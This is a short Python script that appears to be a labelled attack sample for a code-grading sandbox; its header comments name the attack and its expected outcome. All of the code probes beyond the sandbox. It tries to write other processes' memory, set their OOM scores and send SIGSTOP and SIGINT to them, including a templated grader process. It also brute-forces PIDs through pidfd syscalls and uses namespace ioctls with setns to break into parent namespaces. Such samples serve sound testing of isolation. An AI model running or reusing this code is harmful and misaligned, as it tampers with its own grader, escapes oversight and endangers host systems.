# attack: the process that the kernel was forked from is looked for, signalled, slowed down and read
# outcome: earns what the wrong answer earns
# stock: no: reaches beyond the temporary course
import ctypes
import os
import resource
import signal

libc = ctypes.CDLL(None, use_errno=True)
own = os.getpid()
others = {os.getppid(), 1, int("@GRADER@")} | {int(name) for name in os.listdir("/proc") if name.isdigit()}
for number in sorted(others - {own, 0}):
    for what in (
        lambda: open(f"/proc/{number}/mem", "r+b", 0),
        lambda: os.listdir(f"/proc/{number}/fd"),
        lambda: os.open(f"/proc/{number}/root", os.O_PATH),
        lambda: open(f"/proc/{number}/oom_score_adj", "w").write("1000"),
        lambda: os.open(f"/proc/{number}/ns/mnt", os.O_RDONLY),
    ):
        try:
            what()
            print("REACHED" if number != 1 else "only its own", number)
        except OSError as error:
            print(number, type(error).__name__)
    for call in (lambda: os.kill(number, signal.SIGSTOP), lambda: os.kill(number, signal.SIGINT)):
        try:
            call()
            print("REACHED" if number != 1 else "only its own", number)
        except OSError as error:
            print(number, type(error).__name__)
# Numbers of processes are tried where none can be seen.
for number in range(2, 5000):
    if number != own and number not in others:
        try:
            handle = os.pidfd_open(number)
            print("REACHED", number, libc.syscall(438, handle, 0, 0))
        except OSError:
            pass
for kind in ("mnt", "user", "pid", "net"):
    try:
        joined = os.open(f"/proc/self/ns/{kind}_for_children" if kind == "pid" else f"/proc/self/ns/{kind}", os.O_RDONLY)
        import fcntl

        above = fcntl.ioctl(joined, 0xB702 if kind in ("user", "pid") else 0xB701)
        print("REACHED", kind) if libc.setns(above, 0) == 0 else print(kind, "not joined")
    except OSError as error:
        print(kind, type(error).__name__)
